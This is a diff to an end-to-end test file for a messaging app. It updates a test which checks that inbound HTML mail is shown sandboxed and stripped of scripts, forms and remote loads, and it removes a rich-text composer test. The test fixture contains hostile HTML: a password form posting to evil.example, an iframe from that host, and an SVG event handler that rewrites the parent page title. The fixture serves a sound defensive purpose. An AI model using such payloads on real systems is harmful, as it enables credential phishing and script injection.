@@ -2,6 +2,7 @@ import type { Page } from "playwright-core";
 import { expect, test } from "vitest";
 import { text } from "../support/messenger-page.ts";
 import { browserDesk } from "./support/browser-desk.ts";
+import { colourOf } from "./support/measure.ts";
 
 const company = browserDesk({ people: { marta: {} }, routing: { mode: "nobody" } });
 let said = 0;
@@ -32,13 +33,14 @@ const HOSTILE = `<style>body{background:#fee}</style><p style="color:#063">Dear 
 <form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
 <svg><animate onbegin="parent.document.title='owned'" attributeName="x" dur="1s"></svg>`;
 
-test("mail is shown as it was written, runs nothing, and loads nothing from elsewhere until it is asked to", async () => {
+test("what a cleaning would have missed runs nothing and loads nothing from elsewhere until it is asked to", async () => {
   const id = await somebodyWrites("A mail in disguise");
   const { page } = await company.open("marta");
   const asked: string[] = [];
   page.on("request", (request) => void asked.push(request.url()));
   await page.route("https://**", (route) => route.fulfill({ status: 404, body: "" }));
-  company.problems.expect(/tracker\.example|status of 404/);
+  // That the browser blocks a script of this is what is to be seen.
+  company.problems.expect(/tracker\.example|status of 404|Blocked script execution/);
   await bend<Items>(page, "/messages**", ({ items, ...rest }) => ({
     ...rest,
     items: items.map((item) => (item.kind === "inbound" ? { ...item, html: HOSTILE } : item)),
@@ -52,7 +54,7 @@ test("mail is shown as it was written, runs nothing, and loads nothing from else
   expect(await frame.getAttribute("sandbox")).not.toContain("allow-scripts");
   expect(await mail.locator("script, form, input, iframe, [onerror], [onbegin]").count()).toBe(0);
   expect(await mail.getByText("click").getAttribute("href")).toBeNull();
-  expect(await mail.getByText("Dear").evaluate("(one) => getComputedStyle(one).color")).toBe("rgb(0, 102, 51)");
+  expect(await mail.getByText("Dear").evaluate(colourOf)).toBe("rgb(0, 102, 51)");
   expect(asked.filter((url) => url.includes("tracker.example"))).toEqual([]);
   expect(await page.title()).toBe("Inbox · Parley");
 
@@ -60,36 +62,4 @@ test("mail is shown as it was written, runs nothing, and loads nothing from else
   await expect.poll(() => asked.filter((url) => url.includes("tracker.example")).length).toBeGreaterThan(0);
   expect(await page.title()).toBe("Inbox · Parley");
   expect(id).toMatch(/^[0-9A-Z]{26}$/);
-});
-
-test("formatted text is written with bold, lists and links, and the page's policy holds", async () => {
-  await somebodyWrites("Format, please");
-  const { page, screenshot } = await company.open("marta");
-  await bend<Items>(page, "/v1/channels", ({ items, ...rest }) => ({
-    ...rest,
-    items: items.map((item) => ({ ...item, capabilities: { ...(item.capabilities as object), richText: true } })),
-  }));
-  await page.reload();
-  await page.getByRole("link", { name: /Format, please/ }).click();
-  const field = page.getByRole("textbox", { name: "Reply" });
-  let sent: { readonly html?: string; readonly text?: string } = {};
-  page.on("request", (request) => {
-    if (request.method() === "POST" && request.url().endsWith("/messages")) sent = request.postDataJSON();
-  });
-
-  await field.click();
-  await page.getByRole("button", { name: "Bold" }).click();
-  await page.keyboard.type("Important");
-  await page.getByRole("button", { name: "Bold" }).click();
-  await page.keyboard.type(" and ");
-  page.once("dialog", (dialog) => void dialog.accept("https://lumen.example/"));
-  await page.keyboard.type("more");
-  await page.keyboard.press("Shift+Control+ArrowLeft");
-  await page.getByRole("button", { name: "Link" }).click();
-  await screenshot("composer-formatted");
-  await page.keyboard.press("Control+Enter");
-
-  await expect.poll(() => sent.html).toContain("<strong>Important</strong> and ");
-  expect(sent.html).toContain('href="https://lumen.example/"');
-  expect(sent.text).toBe("Important and more");
 });
